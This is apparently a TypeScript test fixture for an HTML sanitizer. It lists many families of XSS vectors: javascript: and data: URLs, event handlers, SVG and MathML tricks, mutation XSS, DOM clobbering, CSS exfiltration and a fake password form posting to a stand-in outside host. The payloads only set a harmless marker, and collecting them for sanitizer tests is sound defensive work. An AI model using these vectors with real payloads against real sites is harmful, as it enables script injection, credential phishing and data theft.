/**
 * The script of every vector. It has neither quotes nor spaces, so that it fits into any markup.
 */
export const RUN = "document.documentElement.dataset.run=1";
const R = RUN;
/** A page with this script in Base64, and one whose script also navigates to another site. */
const BASE64 =
  "PHNjcmlwdD5wYXJlbnQuZG9jdW1lbnQuZG9jdW1lbnRFbGVtZW50LmRhdGFzZXQucnVuPTE8L3NjcmlwdD4=";
const PAGE = `<script>parent.${R};top.location='https://outside.example/'</script>`;
const OUT = "https://outside.example";

/**
 * URLs that run a script, contain a page, or lead to another site in disguise. From OWASP's cheat
 * sheet (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and
 * from the tests of DOMPurify.
 */
export const HOSTILE_ADDRESSES = [
  `javascript:${R}`,
  `JaVaScRiPt:${R}`,
  ` javascript:${R}`,
  `\u0001javascript:${R}`,
  `\u00a0javascript:${R}`,
  `java\tscript:${R}`,
  `java\nscript:${R}`,
  `javascript://outside.example/%0A${R}`,
  `javascript:/*--></title></style></textarea>*/${R}`,
  `javascript:eval('${R}')//`,
  `javascript&colon;${R}`,
  `vbscript:${R}`,
  `data:text/html,${PAGE}`,
  `data:text/html;base64,${BASE64}`,
  `DATA:text/html,${PAGE}`,
  `data:,${PAGE}`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>parent.${R}</script>`,
  `view-source:${OUT}`,
  `feed:javascript:${R}`,
  `blob:${OUT}/1`,
  `about:blank`,
  `file:///etc/passwd`,
  `ftp://outside.example/x`,
  `intent://outside.example#Intent;scheme=https;end`,
  `"onerror="${R}`,
  `x" onerror="${R}" x="`,
  `"><script>${R}</script>`,
] as const;

/** Event handlers: some fire by themselves, others at an interaction. */
const events = [
  `<img src=x onerror=${R}>`,
  `<img src=x\nonerror\n=\n${R}>`,
  `<img src=/images/brand/symbol.svg onload=${R}>`,
  `<img """><script>${R}</script>">`,
  `<img srcset="x 1x" onerror=${R}>`,
  `<image src=x onerror=${R}>`,
  `<body onload=${R}>`,
  `<iframe onload=${R}></iframe>`,
  `<input autofocus onfocus=${R}>`,
  `<details open ontoggle=${R}><summary>More</summary></details>`,
  `<marquee onstart=${R} onfinish=${R} loop=1>x</marquee>`,
  `<form onsubmit=${R} onformdata=${R}><input type=submit autofocus></form>`,
  `<p data-hydrated="" data-article="other" onclick=${R}>x</p>`,
  `<p/onclick=${R}/x>x</p>`,
  `<p x="'>" onclick=${R}>x</p>`,
];

const scripts = [
  `<script>${R}</script>`,
  `<script/x>${R}</script>`,
  `<script async src=${OUT}/x.js></script>`,
  `<script src="data:text/javascript,${R}"></script>`,
  `<script type=importmap>{"imports":{"react":"${OUT}/x.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${OUT}/"]}]}</script>`,
  `<script>${R}`,
  `<script><!--\n${R}\n--></script>`,
  `<noscript><p title="</noscript><script>${R}</script>">`,
  `<noscript><style></noscript><img src=x onerror=${R}></style>`,
  `<template><script>${R}</script><img src=x onerror=${R}></template>`,
  `<div><template shadowrootmode=open><script>${R}</script><img src=x onerror=${R}></template></div>`,
  `<listing>&lt;img src=x onerror=${R}&gt;</listing>`,
  `<plaintext><script>${R}</script>`,
  `<title><img title="</title><img src=x onerror=${R}>"></title>`,
  `<![CDATA[<img src=x onerror=${R}>]]>`,
  `<!--<img src="--><img src=x onerror=${R}//">-->`,
  `<!-- --!><img src=x onerror=${R}>`,
  `<%<!--'%><script>${R}</script -->`,
];

const svg = [
  `<svg onload=${R}>`,
  `<svg><script>${R}</script></svg>`,
  `<svg><a href="javascript:${R}"><text y=20>go</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${R}"/><text y=20>go</text></a></svg>`,
  `<svg><a id=x><text y=20>go</text></a><set href=#x attributeName=href to="javascript:${R}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${R}'/></svg>#x"/></svg>`,
  `<svg><image href=x onerror=${R}></svg>`,
  `<svg><foreignObject><iframe srcdoc="${PAGE}"></iframe></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${R}></desc></svg>`,
  `<svg><style><img src=x onerror=${R}></style></svg>`,
  `<svg><p><style><img title="</style><img src=x onerror=${R}>"></style></p></svg>`,
  `<svg width=9999 height=9999><rect width=9999 height=9999 /></svg>`,
  `<svg><![CDATA[<img title="]]></svg><img src=x onerror=${R}>">`,
];

const mathml = [
  `<math href="javascript:${R}">go</math>`,
  `<math><mi xlink:href="data:x,<script>${R}</script>">go</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${R}></annotation-xml></math>`,
  `<math><semantics><annotation-xml encoding="text/html"><svg onload=${R}></annotation-xml></math>`,
  `<math><mglyph><style><img src=x onerror=${R}></style></mglyph></math>`,
];

/** Mutation XSS: markup that is harmless when parsed, and not when serialized and parsed again. */
const mutations = [
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${R}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${R}&gt;">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${R}>"></style></h1>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${R}>">`,
  `<svg><style><img src="</style><img src=x onerror=${R}//">`,
  `<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=${R}>">`,
  `<svg><foreignobject><p><table><tr><style><img title="</style><img src=x onerror=${R}>"></tr></table>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${R}>">`,
  `<form id=f><div></form><form><style><img src=x onerror=${R}></style></form></div>`,
  `<form><form><input name=attributes></form><img src=x onerror=${R}>`,
  `<table><tr><td><template><td><img src=x onerror=${R}></template></table>`,
  `<table><img src=x onerror=${R}><tr></tr></table>`,
  `<select><option><style></option></select><img src=x onerror=${R}></style>`,
  `<p><svg><p><style><!--</style><img src=x onerror=${R}>--></style></p></svg>`,
  `<noscript><img alt="</noscript><img src=x onerror=${R}>"></noscript>`,
  `<p title="\`&grave;&grave;onerror=${R}\`"></p>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${R}</x:script>`,
  `<a/\u0000href="javascript:${R}">x</a>`,
  `<svg><x><![CDATA[><img src=x onerror=${R}>]]></x></svg>`,
];

const frames = [
  `<iframe srcdoc="${PAGE}"></iframe>`,
  `<iframe srcdoc="<p>hi</p>" src="https://www.youtube.com/embed/abc"></iframe>`,
  `<iframe src="javascript:parent.${R}"></iframe>`,
  `<iframe src="data:text/html,${PAGE}"></iframe>`,
  `<iframe src="/admin"></iframe>`,
  `<iframe src="//localhost/admin"></iframe>`,
  `<iframe src="http://outside.example/"></iframe>`,
  `<iframe name="${R}" src="about:blank"></iframe>`,
  `<object data="javascript:${R}"></object>`,
  `<embed src="javascript:${R}">`,
  `<frame src="javascript:${R}">`,
];

const addresses = [
  ...HOSTILE_ADDRESSES.map((address) => `<a href="${address.replaceAll('"', "&quot;")}">go</a>`),
  ...HOSTILE_ADDRESSES.map((address) => `<img src="${address.replaceAll('"', "&quot;")}">`),
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${R}">go</a>`,
  `<a href="java&NewLine;script&colon;${R}">go</a>`,
  `<a href='javascript:"<img src=x onerror=${R}>"'>go</a>`,
  `<map name=m><area shape=default href="javascript:${R}"></map><img src=x usemap=#m>`,
  `<form><button formaction="javascript:${R}">go</button></form>`,
  `<blockquote cite="javascript:${R}">x</blockquote>`,
  `<video poster="javascript:${R}" src="javascript:${R}"></video>`,
  `<picture><source srcset="javascript:${R}"><img src="javascript:${R}"></picture>`,
  `<bgsound src="javascript:${R}">`,
];

const leaving = [
  `<meta http-equiv=refresh content="0;url=${OUT}/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<meta http-equiv=Set-Cookie content="a=b"><meta name=referrer content=unsafe-url>`,
  `<meta charset="utf-7">+ADw-script+AD4-${R}+ADw-/script+AD4-`,
  `<base href="${OUT}/"><a href="page">go</a>`,
  `<base target="_top"><base href="javascript:${R}//">`,
  `<form action="${OUT}/" method=post><input name=password type=password><button>Log in</button></form>`,
  `<svg onload="window.open('${OUT}/')">`,
];

const css = [
  `<style>header{display:none}body::before{content:"Taken over"}</style>`,
  `<style>@import url(${OUT}/x.css);</style>`,
  `<style>input[value^=a]{background:url(${OUT}/a)}</style>`,
  `<style></style><img src=x onerror=${R}></style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Cover</div>`,
  `<div style="width:99999px">wide</div>`,
  `<div style="margin-left:-9999px">out</div>`,
  `<div class="fixed inset-0 z-50 bg-rice">Cover</div>`,
  `<hr width=99999><img src=x width=99999 height=99999>`,
  `<pre>${"wide".repeat(2000)}</pre>`,
  `<p>${"W".repeat(3000)}</p>`,
  `<video width=99999 height=99999 controls></video>`,
  `</div></div></main></body></html><h1>Outside</h1>`,
  `${"<blockquote>".repeat(40)}deep`,
  `<p dir=rtl>\u202eEvil\u202c ${"\u0300".repeat(200)}</p>`,
];

/** DOM clobbering: names and ids that hide properties of the document which scripts use. */
const clobbering = [
  `<img name=body><img name=cookie><img name=head>`,
  `<img id=currentScript name=currentScript>`,
  `<form name=body><input name=firstChild></form>`,
  `<form><input name=attributes><input name=attributes></form>`,
  `<form><input name=parentNode><input name=nodeName></form>`,
  `<a id=config></a><a id=config name=url href="${OUT}/x.js"></a>`,
  `<a id=__staticRouterHydrationData href="${OUT}/"></a>`,
  `<p id=root>Cover</p>`,
  `<p id=page-data>{"queries":[[["x"],{}]]}</p>`,
  `<h2 id=_r_0_>Heading</h2><p id=_R_1_>x</p>`,
  `<h2 id=post:related>Other heading</h2><p id=call:heading>x</p>`,
  `<iframe name=defaultView srcdoc="<a id=x href=${OUT}></a>"></iframe>`,
  `<img name=dataset><img name=DOMPurify id=trustedTypes>`,
  `<p slot=x is=x-y part=y itemid="${OUT}" nonce=z accesskey=s>x</p>`,
  `<main><h1>Other page</h1></main><header>x</header><footer>y</footer><nav>z</nav>`,
];

const FAMILIES = {
  events,
  scripts,
  svg,
  mathml,
  mutations,
  frames,
  addresses,
  leaving,
  css,
  clobbering,
};

/**
 * All vectors. Each is used as HTML in the text of an article, and as plain text in other fields.
 */
export const XSS_VECTORS = Object.entries(FAMILIES).flatMap(([family, vectors]) =>
  vectors.map((html, i) => ({ name: `${family} ${i + 1}`, html })),
);
